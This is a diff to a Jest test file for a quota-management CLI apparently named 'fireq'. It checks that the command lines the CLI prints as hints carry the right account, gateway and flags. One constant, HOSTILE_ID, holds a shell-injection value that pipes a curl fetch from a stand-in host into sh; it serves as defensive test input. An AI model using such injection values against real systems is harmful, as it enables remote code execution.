@@ -1,14 +1,21 @@
 import {afterEach, beforeEach, describe, expect, test} from '@jest/globals'
-import {mkdirSync, mkdtempSync, writeFileSync} from 'node:fs'
+import {mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync} from 'node:fs'
 import os from 'node:os'
 import path from 'node:path'
-import {command, NO_SELECTOR} from '../../src/lib/domain/action.js'
+import {command, NO_SELECTOR, quotaCommand} from '../../src/lib/domain/action.js'
 import {commandLine} from '../../src/lib/render/formats/command-line.js'
 import {createSandbox, type Sandbox} from '../../src/lib/sandbox/index.js'
+import {startFaultServer} from '../support/fault-server.js'
 import {runCli} from '../support/run-cli.js'
 
 /** What a server could send for a quota's id. */
 const HOSTILE_ID = 'q;curl${IFS}evil|sh'
+
+const SOURCE = path.resolve('src')
+const sourceFiles = () =>
+  readdirSync(SOURCE, {recursive: true, encoding: 'utf8'})
+    .filter(name => name.endsWith('.ts'))
+    .map(name => path.join(SOURCE, name))
 
 let home: string
 let asked: Sandbox
@@ -46,6 +53,60 @@ describe('a printed command reaches the account of the run that printed it', () 
     const bare = await runCli(line, {home, env})
     expect(bare.stderr).toContain('450 -a ACCOUNT')
     expect(bare.code).toBe(1)
+  })
+})
+
+describe('a printed line runs as printed', () => {
+  const hintsOf = async (argv: readonly string[], env: Record<string, string> = {}) =>
+    (await runCli(argv, {home, env})).stderr
+
+  test('beside a gateway over plain http it carries what allows that', async () => {
+    const env = {CLAUDECODE: '1', FIREWORKS_API_KEY: 'fw_test_given'}
+    const line = ['quota', 'set', 'monthly-spend-usd', '450', '--base-url', 'http://gateway.example', '-a', 'acme']
+    expect(await hintsOf([...line, '--insecure-http'], env)).toContain(
+      '-a acme --base-url http://gateway.example --insecure-http`',
+    )
+  })
+
+  test('a login goes into the profile and to the gateway that were asked', async () => {
+    const server = await startFaultServer([{status: 401, body: {code: 16, message: 'no such key'}}])
+    const refused = await hintsOf([
+      'quota',
+      'list',
+      '-p',
+      'default',
+      '--base-url',
+      server.url,
+      '--api-key',
+      'fw_test_given',
+    ])
+    await server.close()
+    expect(refused).toContain(`fireq auth status -p default --base-url ${server.url}`)
+    expect(await hintsOf(['config', 'set', 'model', 'fw_abcdefghijklmnopqrstuvwx', '-p', 'work'])).toContain(
+      'fireq auth login -p work`',
+    )
+  })
+
+  test('an account whose id begins like a flag stays one word', () => {
+    const selector = {...NO_SELECTOR, account: '-x'}
+    expect(commandLine(['status'], selector)).toBe('fireq status --account-id=-x')
+  })
+
+  test('an id that would be cut is found in the list instead', () => {
+    expect(quotaCommand('get', 'q'.repeat(500)).command).toEqual(['quota', 'list'])
+  })
+
+  test('no text of the code spells a command that asks an account without what selects it', () => {
+    const spelt = sourceFiles()
+      .filter(file => !/lib\/(?:help|sandbox|domain\/facts)\//.test(file))
+      .flatMap(file => readFileSync(file, 'utf8').split('\n'))
+      .filter(line => !/^\s*(?:\*|\/\/|\/\*)/.test(line))
+      .flatMap(line => [...line.matchAll(/hints?: .*`fireq ([^`]*)`|\\`fireq ([^`]*)\\`/g)])
+      .map(([, plain, escaped]) => plain ?? escaped ?? '')
+      .filter(
+        text => /^(?:account|history|key|limits|model|quota|spend|status|tier)/.test(text) && !/--help$/.test(text),
+      )
+    expect(spelt).toEqual([])
   })
 })
 
